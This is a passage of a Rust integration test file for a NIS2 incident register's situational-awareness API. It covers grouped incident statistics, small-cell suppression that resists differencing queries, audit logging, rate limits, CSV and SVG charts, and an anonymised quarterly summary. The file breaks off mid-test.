//! Situational awareness: voluntary notifications, the figures by group for each kind of
//! reader, disclosure control that survives subtraction from the totals, CSV and SVG, the
//! quarterly summary for ENISA, and bad queries.

mod common;

use chrono::{DateTime, Datelike, TimeZone, Utc};
use common::*;
use diesel::prelude::*;
use nis2hub::auth::Role;
use nis2hub::schema::incidents;
use serde_json::{json, Value};

/// One stored notification, written straight into the register (the figures only read
/// columns, so this is what a report leaves behind).
struct Row {
    entity: String,
    sector: &'static str,
    kind: &'static str,
    significant: bool,
    late: bool,
    cross_border: bool,
    threat_type: Option<&'static str>,
    at: DateTime<Utc>,
    /// When the entity became aware; `at` (the report) unless set.
    aware: Option<DateTime<Utc>>,
}

fn row(entity: &str, sector: &'static str, at: DateTime<Utc>) -> Row {
    Row {
        entity: entity.into(),
        sector,
        kind: "incident",
        significant: false,
        late: false,
        cross_border: false,
        threat_type: None,
        at,
        aware: None,
    }
}

/// Writes the rows, then makes the cells as the sweep does.
fn seed(ctx: &Ctx, rows: &[Row]) {
    seed_stale(ctx, rows);
    // The figures of days that have ended come from kept cells once the sweep has made them:
    // these tests read them from the cells (and `kept_cells_answer_exactly_as_the_incidents_do`
    // compares the two ways).
    nis2hub::awareness::cells::rebuild_all(&ctx.state.pool).unwrap();
}

/// Writes the rows and leaves the days written to stale, as between two sweeps: their figures
/// are counted from the incidents.
fn seed_stale(ctx: &Ctx, rows: &[Row]) {
    use nis2hub::schema::entities;
    let mut conn = ctx.state.pool.get().unwrap();
    for (i, r) in rows.iter().enumerate() {
        let at = r.at.naive_utc();
        let known: i64 = entities::table
            .filter(entities::id.eq(&r.entity))
            .count()
            .get_result(&mut conn)
            .unwrap();
        if known == 0 {
            diesel::insert_into(entities::table)
                .values((
                    entities::id.eq(&r.entity),
                    entities::name.eq(&r.entity),
                    entities::name_folded.eq(&r.entity),
                    entities::identifier.eq(&r.entity),
                    entities::country.eq("NL"),
                    entities::sector.eq(r.sector),
                    entities::category.eq("essential"),
                    entities::status.eq("registered"),
                    entities::body.eq("{}"),
                    entities::version.eq(1i64),
                    entities::created_at.eq(at),
                    entities::updated_at.eq(at),
                ))
                .execute(&mut conn)
                .unwrap();
        }
        diesel::insert_into(incidents::table)
            .values((
                incidents::id.eq(uuid::Uuid::now_v7().to_string()),
                incidents::reference
                    .eq(format!("INC-TEST-{i:06}-{}", uuid::Uuid::new_v4().simple())),
                incidents::entity_id.eq(&r.entity),
                incidents::sector.eq(r.sector),
                incidents::status.eq("open"),
                incidents::current_stage.eq("notification"),
                incidents::aware_at.eq(r.aware.unwrap_or(r.at).naive_utc()),
                incidents::occurred_at.eq(at),
                incidents::significant.eq(r.significant),
                incidents::mandatory.eq(r.significant),
                incidents::cross_border.eq(r.cross_border),
                incidents::cross_sectoral.eq(false),
                incidents::late.eq(r.late),
                incidents::tlp.eq("AMBER"),
                incidents::facts.eq("{}"),
                incidents::decision.eq("{}"),
                incidents::version.eq(1i64),
                incidents::created_at.eq(at),
                incidents::updated_at.eq(at),
                incidents::kind.eq(r.kind),
                incidents::category.eq(Some("essential")),
                incidents::threat_type.eq(r.threat_type),
            ))
            .execute(&mut conn)
            .unwrap();
    }
}

fn t(day: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 3, day, 12, 0, 0).unwrap()
}

const PERIOD: &str = "from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z";

fn group<'a>(r: &'a Res, key: &str) -> &'a Value {
    r.body["groups"]
        .as_array()
        .unwrap_or_else(|| panic!("groups: {}", r.text))
        .iter()
        .find(|g| g["key"] == key)
        .unwrap_or_else(|| panic!("no group {key}: {}", r.text))
}

/// Energy: electricity with five entities, gas with one (below the threshold), oil with
/// three; health (another CSIRT's sector) with four.
fn energy_and_health() -> Vec<Row> {
    let mut rows = vec![];
    for e in 0..5 {
        rows.push(Row {
            significant: e < 2,
            late: e == 0,
            ..row(&format!("elec-{e}"), "energy.electricity", t(2 + e))
        });
    }
    rows.push(Row {
        significant: true,
        ..row("gas-0", "energy.gas", t(3))
    });
    rows.push(row("gas-0", "energy.gas", t(20)));
    for e in 0..3 {
        rows.push(row(&format!("oil-{e}"), "energy.oil", t(10 + e)));
        rows.push(row(&format!("oil-{e}"), "energy.oil", t(11 + e)));
    }
    for e in 0..4 {
        rows.push(row(&format!("health-{e}"), "health", t(5)));
    }
    rows
}

#[actix_web::test]
async fn the_national_csirt_sees_every_sector_unsuppressed() {
    let ctx = Ctx::new();
    seed(&ctx, &energy_and_health());
    // Outside the period: not counted.
    seed(
        &ctx,
        &[row(
            "elec-0",
            "energy.electricity",
            t(1) - chrono::Duration::days(3),
        )],
    );
    let app = app!(ctx);
    let r = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=sector"),
            &ctx.national(),
        ),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.body["scope"], "national");
    assert_eq!(r.body["suppressed_below"], Value::Null);
    let elec = group(&r, "energy.electricity");
    assert_eq!(
        (
            &elec["incidents"],
            &elec["significant"],
            &elec["entities"],
            &elec["late"]
        ),
        (&json!(5), &json!(2), &json!(5), &json!(1))
    );
    let gas = group(&r, "energy.gas");
    assert_eq!(
        (&gas["incidents"], &gas["entities"], &gas["suppressed"]),
        (&json!(2), &json!(1), &json!(false))
    );
    assert_eq!(group(&r, "health")["incidents"], 4);
    assert_eq!(r.body["total"]["incidents"], 17);
    assert_eq!(r.body["total"]["entities"], 13);
}

#[actix_web::test]
async fn a_sectoral_csirt_sees_its_sectors_on_whole_weeks_and_cannot_recover_a_suppressed_one() {
    let ctx = Ctx::new();
    seed(&ctx, &energy_and_health());
    let app = app!(ctx);
    let token = ctx.token("csirt-energy", Role::SectoralCsirt);
    let r = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=sector"),
            &token,
        ),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(r.body["scope"], "sectoral");
    assert_eq!(r.body["suppressed_below"], 3);
    // March 2026 on the grid: from the Monday of the week of 1 March (2026-W09) to the Monday
    // of the week of 1 April, which has not ended within the period and is left out.
    assert_eq!(r.body["from"], "2026-02-23T00:00:00Z");
    assert_eq!(r.body["to"], "2026-03-30T00:00:00Z");
    let keys: Vec<&str> = r.body["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["key"].as_str().unwrap())
        .collect();
    assert!(
        keys.contains(&"energy.hydrogen") && keys.contains(&"transport.rail"),
        "every sector of the CSIRT is listed, reported or not: {keys:?}"
    );
    assert!(!keys.contains(&"health"), "health is not theirs");
    assert_eq!(group(&r, "energy.hydrogen")["suppressed"], true);
    // Week 10: five electricity entities and the one gas entity; the gas cell is withheld, and
    // electricity with it (its complement). Week 11: three oil entities, published. Week 12:
    // the gas entity again, alone.
    let gas = group(&r, "energy.gas");
    assert_eq!(gas["suppressed"], true, "one entity is below the threshold");
    for field in [
        "incidents",
        "significant",
        "entities",
        "late",
        "near_misses",
        "cyber_threats",
    ] {
        assert_eq!(gas[field], Value::Null, "{field}");
    }
    assert_eq!(
        group(&r, "energy.electricity")["suppressed"],
        true,
        "the complement of gas in week 10"
    );
    let oil = group(&r, "energy.oil");
    assert_eq!(
        (&oil["incidents"], &oil["entities"]),
        (&json!(6), &json!(3))
    );
    assert_eq!(oil["withheld_units"], 4, "weeks 9, 10, 12 and 13");

    // The attack: every published figure subtracted from the published total.
    let total = &r.body["total"];
    assert_eq!(total["suppressed"], false);
    assert_eq!(
        total["withheld_units"], 3,
        "weeks 9 and 13 are empty, week 12 holds the gas entity alone"
    );
    let published: u64 = r.body["groups"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|g| g["incidents"].as_u64())
        .sum();
    let recovered = total["incidents"].as_u64().unwrap() - published;
    // What falls out is week 10's electricity and gas together (six entities): the gas
    // entity is not singled out, and week 12's gas incident is nowhere.
    assert_eq!(recovered, 6);

    // An authority's view is limited the same way, over its own sectors.
    let authority = ctx.token("authority-infrastructure", Role::SupervisoryAuthority);
    let a = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=sector"),
            &authority,
        ),
    )
    .await;
    assert_eq!(a.status, 200, "{}", a.text);
    for key in ["energy.gas", "energy.electricity", "energy.oil"] {
        assert_eq!(group(&a, key), group(&r, key), "{key}");
    }
    assert_eq!(group(&a, "space")["suppressed"], true);
    let finance = ctx.token("authority-finance", Role::SupervisoryAuthority);
    let f = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=sector"),
            &finance,
        ),
    )
    .await;
    assert!(
        f.body["groups"]
            .as_array()
            .unwrap()
            .iter()
            .all(|g| g["suppressed"] == true),
        "none of its sectors reported: {}",
        f.text
    );
    assert_eq!(f.body["total"]["suppressed"], true);
}

/// The curious authority of the trust review: it may see significant incidents of its
/// sectors, and tries to learn a non-significant one it may not see — its sector, stage,
/// category, cross-border flag and threat type — from the awareness figures, with every
/// strategy a caller with `awareness:read` has: shifting `to` by a microsecond across the
/// incident, adjacent days, overlapping periods, every `group_by` on the same periods, filters
/// the endpoint does not have, and the quarterly summary. Every pair of answers it can get is
/// compared: no difference, and no total less the published groups, may stand for fewer than
/// the threshold of entities.
#[actix_web::test]
async fn no_combination_of_permitted_queries_singles_out_an_incident() {
    let mut ctx = Ctx::with_config(true, |c| c.awareness.max_period_days = 400);
    // The attacker is given all the reads it wants: the rate limit is tested on its own, and
    // disclosure control must not rest on it.
    ctx.state.awareness_limiter = std::sync::Arc::new(governor::RateLimiter::keyed(
        governor::Quota::per_minute(std::num::NonZeroU32::new(1_000_000).unwrap()),
    ));
    // The victim: one gas entity's non-significant, cross-border intrusion on Wednesday
    // 11 March 2026 (2026-W11) at 10:00:00.123456.
    let victim_at = Utc
        .with_ymd_and_hms(2026, 3, 11, 10, 0, 0)
        .unwrap()
        .checked_add_signed(chrono::Duration::microseconds(123_456))
        .unwrap();
    let mut rows = vec![Row {
        cross_border: true,
        threat_type: Some("intrusions"),
        ..row("victim", "energy.gas", victim_at)
    }];
    // Around it, electricity and oil entities report every week, so the weeks' totals are
    // published: the victim hides only inside them.
    for week in 0..6i64 {
        for e in 0..4 {
            let at = Utc.with_ymd_and_hms(2026, 2, 23, 9, 0, 0).unwrap()
                + chrono::Duration::weeks(week)
                + chrono::Duration::hours(e * 7);
            rows.push(Row {
                significant: e == 0,
                threat_type: Some("availability"),
                ..row(&format!("elec-{e}"), "energy.electricity", at)
            });
            rows.push(row(&format!("oil-{e}"), "energy.oil", at));
        }
    }
    seed(&ctx, &rows);
    let app = app!(ctx);
    let authority = ctx.token("authority-infrastructure", Role::SupervisoryAuthority);
    let threshold = 3u64;
    let ts = |t: DateTime<Utc>| t.to_rfc3339_opts(chrono::SecondsFormat::Micros, true);
    let day =
        |d: i64| Utc.with_ymd_and_hms(2026, 3, 1, 0, 0, 0).unwrap() + chrono::Duration::days(d);
    let micro = chrono::Duration::microseconds(1);

    // The periods the attacker asks for: the microseconds around the incident, then every
    // day boundary of March as a start or an end (adjacent days, overlapping periods).
    let mut periods = vec![
        (day(0), victim_at),
        (day(0), victim_at + micro),
        (victim_at, day(20)),
        (victim_at + micro, day(20)),
        (victim_at - micro, victim_at + micro),
    ];
    for a in 0..24 {
        for b in [a + 1, a + 2, a + 7, 30] {
            if b > a {
                periods.push((day(a), day(b)));
            }
        }
    }
    // Under the national CSIRT's threshold of nothing, the same strategy does find the victim
    // (the test's own check that the attack is a real one).
    let mut answers: Vec<(String, Value)> = vec![];
    let mut national_differences = 0;
    for group_by in [
        "sector",
        "week",
        "threat_type",
        "root_cause_category",
        "category",
        "stage",
    ] {
        let mut by_period = vec![];
        for (from, to) in &periods {
            let q = format!(
                "/api/v1/awareness?from={}&to={}&group_by={group_by}",
                ts(*from).replace('+', "%2B"),
                ts(*to).replace('+', "%2B")
            );
            let r = send(&app, get(&q, &authority)).await;
            match r.status {
                200 => by_period.push(r.body.clone()),
                // A period holding no whole week that has ended: refused, and nothing learnt.
                400 => r.assert_problem(400, "invalid_query"),
                s => panic!("{q}: {s} {}", r.text),
            }
            if group_by == "sector" && (*from, *to) == (day(0), victim_at + micro) {
                let n = send(&app, get(&q, &ctx.national())).await;
                let before = send(
                    &app,
                    get(
                        &q.replace(&ts(victim_at + micro), &ts(victim_at)),
                        &ctx.national(),
                    ),
                )
                .await;
                if n.body["total"]["incidents"] != before.body["total"]["incidents"] {
                    national_differences += 1;
                }
            }
        }
        for b in by_period {
            answers.push((group_by.to_string(), b));
        }
    }
    assert_eq!(
        national_differences, 1,
        "the national view finds the victim"
    );
    // Every pair of answers of one grouping: a key's figures may differ only by whole
    // published cells, each standing for at least the threshold of entities.
    let figures = |g: &Value| -> (i64, i64) {
        (
            g["incidents"].as_i64().unwrap_or(0),
            g["entities"].as_i64().unwrap_or(0),
        )
    };
    let keyed = |b: &Value| -> Vec<(String, (i64, i64))> {
        let mut v: Vec<(String, (i64, i64))> = b["groups"]
            .as_array()
            .unwrap()
            .iter()
            .map(|g| (g["key"].to_string(), figures(g)))
            .collect();
        v.push(("total".into(), figures(&b["total"])));
        v
    };
    let mut compared = 0;
    for (i, (g1, a)) in answers.iter().enumerate() {
        // A total less the groups it publishes: only unions of withheld groups of at least the
        // threshold of entities remain (every entity here reports once a week, so a week's
        // groups split its entities).
        if g1 == "sector" || g1 == "stage" || g1 == "category" {
            let (ti, te) = figures(&a["total"]);
            let (pi, pe) = a["groups"]
                .as_array()
                .unwrap()
                .iter()
                .map(figures)
                .fold((0, 0), |(x, y), (i, e)| (x + i, y + e));
            let (ri, re) = (ti - pi, te - pe);
            assert!(
                (ri == 0 && re == 0) || re >= threshold as i64,
                "{g1} {}..{}: the total less the groups leaves {ri} incidents of {re} entities",
                a["from"],
                a["to"]
            );
        }
        for (g2, b) in &answers[i + 1..] {
            // Periods one inside the other: their difference is the figures of what lies in
            // the one and not the other (overlapping periods reduce to this through the
            // period they share, which is asked for too).
            let (af, at, bf, bt) = (&a["from"], &a["to"], &b["from"], &b["to"]);
            let inside = |f1: &Value, t1: &Value, f2: &Value, t2: &Value| {
                f1.as_str() <= f2.as_str() && t2.as_str() <= t1.as_str()
            };
            if g1 != g2 || !(inside(af, at, bf, bt) || inside(bf, bt, af, at)) {
                continue;
            }
            let kb: std::collections::HashMap<String, (i64, i64)> = keyed(b).into_iter().collect();
            for (key, (ai, ae)) in keyed(a) {
                let Some((bi, be)) = kb.get(&key) else {
                    continue;
                };
                compared += 1;
                let (di, de) = ((ai - bi).abs(), (ae - be).abs());
                assert!(
                    (di == 0 && de == 0) || de >= threshold as i64,
                    "{g1} {key}: {}..{} and {}..{} differ by {di} incidents of {de} entities",
                    a["from"],
                    a["to"],
                    b["from"],
                    b["to"]
                );
            }
        }
    }
    assert!(compared > 5_000, "the attacker compared {compared} figures");
    // Nothing names the victim's cell as something that happened: every key of each grouping
    // is listed, and the victim's sector and threat type are withheld like the empty ones.
    let sectors = answers.iter().find(|(g, _)| g == "sector").unwrap();
    let gas = sectors.1["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["key"] == "energy.gas")
        .unwrap();
    let hydrogen = sectors.1["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["key"] == "energy.hydrogen")
        .unwrap();
    assert_eq!(gas["suppressed"], hydrogen["suppressed"]);
    assert_eq!(gas["incidents"], hydrogen["incidents"]);
    // Filters the endpoint does not have change nothing; the quarterly summary is not the
    // authority's.
    let q = format!("/api/v1/awareness?from={}&to={}", ts(day(0)), ts(day(30)));
    let plain = send(&app, get(&q, &authority)).await;
    for extra in [
        "&sector=energy.gas",
        "&threat_type=intrusions",
        "&stage=notification",
    ] {
        let r = send(&app, get(&format!("{q}{extra}"), &authority)).await;
        assert_eq!(r.body, plain.body, "{extra}");
    }
    send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
            &authority,
        ),
    )
    .await
    .assert_problem(403, "forbidden");
}

/// Every awareness read is audited with what was asked, and an organisation's reads are
/// limited per minute.
#[actix_web::test]
async fn awareness_reads_are_audited_and_rate_limited() {
    let ctx = Ctx::new();
    let app = app!(ctx);
    let authority = ctx.token("authority-infrastructure", Role::SupervisoryAuthority);
    let q = "/api/v1/awareness?from=2026-03-02T00:00:00Z&to=2026-03-09T00:00:00Z&group_by=stage";
    let before = count(&ctx, "audit_log");
    let r = send(&app, get(q, &authority)).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(count(&ctx, "audit_log"), before + 1);
    {
        use nis2hub::schema::audit_log;
        let mut conn = ctx.state.pool.get().unwrap();
        let (action, resource, org): (String, String, String) = audit_log::table
            .order(audit_log::seq.desc())
            .select((
                audit_log::action,
                audit_log::resource_id,
                audit_log::actor_org,
            ))
            .first(&mut conn)
            .unwrap();
        assert_eq!(action, "awareness.read");
        assert!(resource.contains("group_by=stage"), "{resource}");
        assert!(resource.contains("from=2026-03-02"), "{resource}");
        assert_eq!(org, ctx.org_id("authority-infrastructure"));
    }
    let limit = nis2hub::awareness::routes::READS_PER_MINUTE.get();
    // The allowance refills at `limit` a minute while the loop runs, so the refusal may come
    // a few reads after the first `limit`, never before.
    let mut refused = None;
    for i in 1..=2 * limit {
        let r = send(&app, get(q, &authority)).await;
        if r.status == 429 {
            refused = Some((i, r));
            break;
        }
        assert_eq!(r.status, 200, "{}", r.text);
    }
    let (i, r) = refused.expect("the limit holds");
    assert!(
        i >= limit,
        "refused after {i} reads, fewer than the allowance"
    );
    r.assert_problem(429, "rate_limited");
    assert!(r.header("retry-after").is_some());
    // Another organisation is not held up by this one; the national CSIRT, whose view
    // withholds nothing, is not limited, and its reads are audited too: every question it
    // asks, and a question it repeats (a dashboard refreshing) once a minute.
    let csirt = ctx.token("csirt-energy", Role::SectoralCsirt);
    assert_eq!(send(&app, get(q, &csirt)).await.status, 200);
    let national = ctx.national();
    let before = count(&ctx, "audit_log");
    for _ in 0..limit + 5 {
        assert_eq!(send(&app, get(q, &national)).await.status, 200);
    }
    assert_eq!(
        count(&ctx, "audit_log"),
        before + 1,
        "one record for the repeated question"
    );
    // Every shifted period, grouping and basis is a question of its own, recorded.
    let shifted = [
        "/api/v1/awareness?from=2026-03-02T00:00:00Z&to=2026-03-09T00:00:00.000001Z&group_by=stage",
        "/api/v1/awareness?from=2026-03-02T00:00:00Z&to=2026-03-09T00:00:00Z&group_by=sector",
        "/api/v1/awareness?from=2026-03-02T00:00:00Z&to=2026-03-09T00:00:00Z&group_by=stage&time_basis=aware",
        "/api/v1/awareness?to=2026-03-09T00:00:00Z&group_by=stage",
        "/api/v1/awareness?group_by=stage",
    ];
    for s in shifted {
        assert_eq!(send(&app, get(s, &national)).await.status, 200);
    }
    assert_eq!(
        count(&ctx, "audit_log"),
        before + 1 + shifted.len() as i64,
        "each distinct question recorded"
    );
    // And the authority's repeats of its one question left one record too.
    use nis2hub::schema::audit_log;
    let mut conn = ctx.state.pool.get().unwrap();
    let authority_reads: i64 = audit_log::table
        .filter(audit_log::action.eq("awareness.read"))
        .filter(audit_log::actor_org.eq(ctx.org_id("authority-infrastructure")))
        .count()
        .get_result(&mut conn)
        .unwrap();
    assert_eq!(authority_reads, 1);
}

#[actix_web::test]
async fn the_threshold_is_configurable() {
    let ctx = Ctx::with_config(true, |c| c.awareness.suppress_below = 1);
    seed(&ctx, &energy_and_health());
    let app = app!(ctx);
    let token = ctx.token("csirt-energy", Role::SectoralCsirt);
    let r = send(&app, get(&format!("/api/v1/awareness?{PERIOD}"), &token)).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(group(&r, "energy.gas")["incidents"], 2);
    assert_eq!(r.body["suppressed_below"], Value::Null);
}

#[actix_web::test]
async fn weeks_are_iso_weeks_in_json_csv_and_svg() {
    let ctx = Ctx::new();
    // 2026-03-01 is a Sunday (ISO week 9); 2027-01-01 a Friday of 2026-W53.
    seed(
        &ctx,
        &[
            row("a", "health", t(1)),
            row("a", "health", t(2)),
            row("b", "health", t(9)),
            Row {
                kind: "near_miss",
                ..row("c", "health", t(10))
            },
            Row {
                kind: "cyber_threat",
                threat_type: Some("malicious-code"),
                ..row("d", "health", t(10))
            },
            row(
                "e",
                "health",
                Utc.with_ymd_and_hms(2027, 1, 1, 9, 0, 0).unwrap(),
            ),
        ],
    );
    let app = app!(ctx);
    let national = ctx.national();
    let r = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=week"),
            &national,
        ),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let w = |d: DateTime<Utc>| {
        let iw = d.iso_week();
        format!("{}-W{:02}", iw.year(), iw.week())
    };
    assert_eq!(w(t(1)), "2026-W09");
    assert_eq!(group(&r, "2026-W09")["incidents"], 1);
    assert_eq!(group(&r, "2026-W10")["incidents"], 1);
    let w11 = group(&r, "2026-W11");
    assert_eq!(
        (
            &w11["incidents"],
            &w11["near_misses"],
            &w11["cyber_threats"]
        ),
        (&json!(1), &json!(1), &json!(1))
    );

    let r = send(
        &app,
        get(
            "/api/v1/awareness?from=2026-12-28T00:00:00Z&to=2027-01-04T00:00:00Z&group_by=week",
            &national,
        ),
    )
    .await;
    assert_eq!(
        group(&r, "2026-W53")["incidents"],
        1,
        "ISO year, not calendar year"
    );

    let csv = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=week"),
            &national,
        )
        .insert_header(("Accept", "text/csv")),
    )
    .await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    let lines: Vec<&str> = csv.text.lines().collect();
    assert_eq!(
        lines[0],
        "key,incidents,significant,entities,late,near_misses,cyber_threats,cross_border,suppressed"
    );
    assert!(
        lines.contains(&"2026-W11,1,0,3,0,1,1,0,false"),
        "{}",
        csv.text
    );
    assert_eq!(*lines.last().unwrap(), "total,3,0,4,0,1,1,0,false");

    let svg = send(
        &app,
        get(
            &format!("/api/v1/awareness?{PERIOD}&group_by=week"),
            &national,
        )
        .insert_header(("Accept", "image/svg+xml")),
    )
    .await;
    assert_eq!(svg.status, 200, "{}", svg.text);
    assert_eq!(svg.header("content-type").unwrap(), "image/svg+xml");
    let doc = roxmltree::Document::parse(&svg.text).expect("well-formed SVG");
    assert_eq!(doc.root_element().tag_name().name(), "svg");
    // March 2026 touches ISO weeks 9 to 14: six bars, each a significant and an other part.
    let parts = doc
        .descendants()
        .filter(|n| {
            n.has_tag_name("rect")
                && n.attribute("fill") == Some(nis2hub::awareness::chart::OTHER)
                && n.parent().is_some_and(|p| p.has_tag_name("svg"))
                && n.attribute("y") != Some("42")
        })
        .count();
    assert_eq!(parts, 6, "{}", svg.text);
}

/// The charts a national CSIRT puts in a briefing: one per `group_by`, rendered by a real SVG
/// renderer (`rsvg-convert`, Debian's librsvg2-bin) to PNG, with whole-number ticks, one
/// centred label per bar, a legend, and an accessible title and description.
#[actix_web::test]
async fn every_grouping_renders_as_a_chart() {
    let ctx = Ctx::new();
    let mut rows = energy_and_health();
    rows.push(Row {
        threat_type: Some("intrusions"),
        ..row("health-0", "health", t(6))
    });
    seed(&ctx, &rows);
    let app = app!(ctx);
    let dir = tempfile::tempdir().unwrap();
    // CHARTS_DIR=… keeps the rendered charts for a look.
    let keep = std::env::var_os("CHARTS_DIR");
    for (who, token) in [
        ("national", ctx.national()),
        ("csirt", ctx.token("csirt-energy", Role::SectoralCsirt)),
    ] {
        for group_by in [
            "sector",
            "week",
            "threat_type",
            "root_cause_category",
            "category",
            "stage",
        ] {
            let r = send(
                &app,
                get(
                    &format!("/api/v1/awareness?{PERIOD}&group_by={group_by}"),
                    &token,
                )
                .insert_header(("Accept", "image/svg+xml")),
            )
            .await;
            assert_eq!(r.status, 200, "{who} {group_by}: {}", r.text);
            let doc = roxmltree::Document::parse(&r.text).expect("well-formed SVG");
            let texts: Vec<&str> = doc
                .descendants()
                .filter(|n| n.has_tag_name("text"))
                .filter_map(|n| n.text())
                .collect();
            let title = doc
                .descendants()
                .find(|n| n.has_tag_name("title"))
                .and_then(|n| n.text())
                .unwrap_or_default();
            assert!(title.starts_with("Incidents by"), "{group_by}: {title}");
            assert!(doc.descendants().any(|n| n.has_tag_name("desc")));
            for legend in ["significant", "other incidents"] {
                assert!(texts.contains(&legend), "{group_by}: legend {legend}");
            }
            // One label per bar, each the group's key, centred under it.
            let json = send(
                &app,
                get(
                    &format!("/api/v1/awareness?{PERIOD}&group_by={group_by}"),
                    &token,
                ),
            )
            .await;
            for g in json.body["groups"].as_array().unwrap() {
                let label = g["key"].as_str().unwrap_or("(not given)");
                let n = doc
                    .descendants()
                    .filter(|n| n.has_tag_name("text") && n.text() == Some(label))
                    .count();
                assert_eq!(n, 1, "{who} {group_by}: label {label}");
            }
            // Ticks are whole numbers.
            let ticks: Vec<&str> = doc
                .descendants()
                .filter(|n| n.has_tag_name("text") && n.attribute("text-anchor") == Some("end"))
                .filter(|n| n.attribute("transform").is_none())
                .filter_map(|n| n.text())
                .collect();
            assert!(ticks.len() >= 2, "{group_by}: {ticks:?}");
            for t in &ticks {
                assert!(t.parse::<u64>().is_ok(), "{group_by}: tick {t}");
            }
            let svg_path = dir.path().join(format!("{who}-{group_by}.svg"));
            let png_path = dir.path().join(format!("{who}-{group_by}.png"));
            std::fs::write(&svg_path, &r.text).unwrap();
            let out = std::process::Command::new("rsvg-convert")
                .arg("-o")
                .arg(&png_path)
                .arg(&svg_path)
                .output()
                .expect("rsvg-convert (Debian librsvg2-bin) renders the chart");
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            let png = std::fs::read(&png_path).unwrap();
            assert!(png.starts_with(b"\x89PNG"), "{group_by}: a PNG");
            assert!(png.len() > 1000, "{group_by}: a PNG with a picture in it");
            if let Some(keep) = &keep {
                std::fs::copy(
                    &png_path,
                    std::path::Path::new(keep).join(png_path.file_name().unwrap()),
                )
                .unwrap();
            }
        }
    }
}

#[actix_web::test]
async fn bad_queries_name_the_field() {
    let ctx = Ctx::new();
    let app = app!(ctx);
    let national = ctx.national();
    for (query, field) in [
        ("group_by=fortnight", "/group_by"),
        ("time_basis=occurred", "/time_basis"),
        ("from=2025-01-01T00:00:00Z&to=2026-03-01T00:00:00Z", "/to"),
        ("from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z", "/from"),
    ] {
        let r = send(&app, get(&format!("/api/v1/awareness?{query}"), &national)).await;
        r.assert_problem(400, "invalid_query");
        assert_eq!(r.body["errors"][0]["pointer"], field, "{query}: {}", r.text);
    }
    for q in [
        "2026-Q5", "2026-Q0", "26-Q1", "2026Q1", "2026-Q1x", "0647-Q2", "1969-Q4",
    ] {
        let r = send(
            &app,
            get(
                &format!("/api/v1/awareness/quarterly-summary?quarter={q}"),
                &national,
            ),
        )
        .await;
        assert_eq!(r.status, 400, "{q}: {}", r.text);
        assert_eq!(r.body["errors"][0]["pointer"], "/quarter", "{q}");
    }
    let entity = ctx.token_with(
        &uuid::Uuid::now_v7().to_string(),
        Role::Entity,
        "incidents:report",
    );
    let r = send(&app, get("/api/v1/awareness", &entity)).await;
    assert!(r.status == 401 || r.status == 403, "{}", r.text);
}

#[actix_web::test]
async fn the_quarterly_summary_is_anonymised_aggregated_and_national_only() {
    let ctx = Ctx::new();
    let mut rows = energy_and_health();
    rows.push(Row {
        significant: true,
        cross_border: true,
        threat_type: Some("intrusions"),
        ..row("health-0", "health", t(6))
    });
    rows.push(Row {
        kind: "near_miss",
        ..row("health-1", "health", t(7))
    });
    seed(&ctx, &rows);
    // The next quarter is not counted.
    seed(
        &ctx,
        &[row(
            "elec-0",
            "energy.electricity",
            Utc.with_ymd_and_hms(2026, 4, 1, 0, 0, 0).unwrap(),
        )],
    );
    let app = app!(ctx);
    let r = send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
            &ctx.national(),
        ),
    )
    .await;
    assert_eq!(r.status, 200, "{}", r.text);
    let b = &r.body;
    assert_eq!(b["quarter"], "2026-Q1");
    assert_eq!(b["from"], "2026-01-01T00:00:00Z");
    assert_eq!(b["to"], "2026-04-01T00:00:00Z");
    assert_eq!(
        (
            &b["total"]["incidents"],
            &b["total"]["significant"],
            &b["total"]["near_misses"],
            &b["total"]["cross_border"]
        ),
        (&json!(18), &json!(4), &json!(1), &json!(1))
    );
    assert_eq!(
        b["by_sector"]
            .as_array()
            .unwrap()
            .iter()
            .find(|g| g["key"] == "energy.gas")
            .unwrap()["suppressed"],
        true
    );
    let intrusions = b["by_threat_type"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["key"] == "intrusions")
        .unwrap();
    assert_eq!(intrusions["suppressed"], true, "one entity only");
    for id in ["elec-0", "gas-0", "health-0", "INC-TEST"] {
        assert!(!r.text.contains(id), "no entity or incident id: {id}");
    }
    // Which keys are listed says nothing: an empty quarter lists the same ones.
    let empty = send(
        &app,
        get(
            "/api/v1/awareness/quarterly-summary?quarter=2025-Q1",
            &ctx.national(),
        ),
    )
    .await;
    for dim in [
        "by_sector",
        "by_threat_type",
        "by_root_cause_category",
        "by_category",
    ] {
        let keys = |b: &Value| -> Vec<Value> {
            b[dim]
                .as_array()
                .unwrap()
                .iter()
                .map(|g| g["key"].clone())
                .collect()
        };
        assert_eq!(keys(b), keys(&empty.body), "{dim}");
        assert!(empty.body[dim]
            .as_array()
            .unwrap()
            .iter()
            .all(|g| g["suppressed"] == true));
        // The total less every published group of the dimension leaves nothing, or withheld
        // groups that stand for at least the threshold of entities together — never the zeros
        // or the counts of one small group. (Each entity here reports in one group of each
        // dimension, so the groups split the entities.)
        let published = |f: &str| -> u64 {
            b[dim]
                .as_array()
                .unwrap()
                .iter()
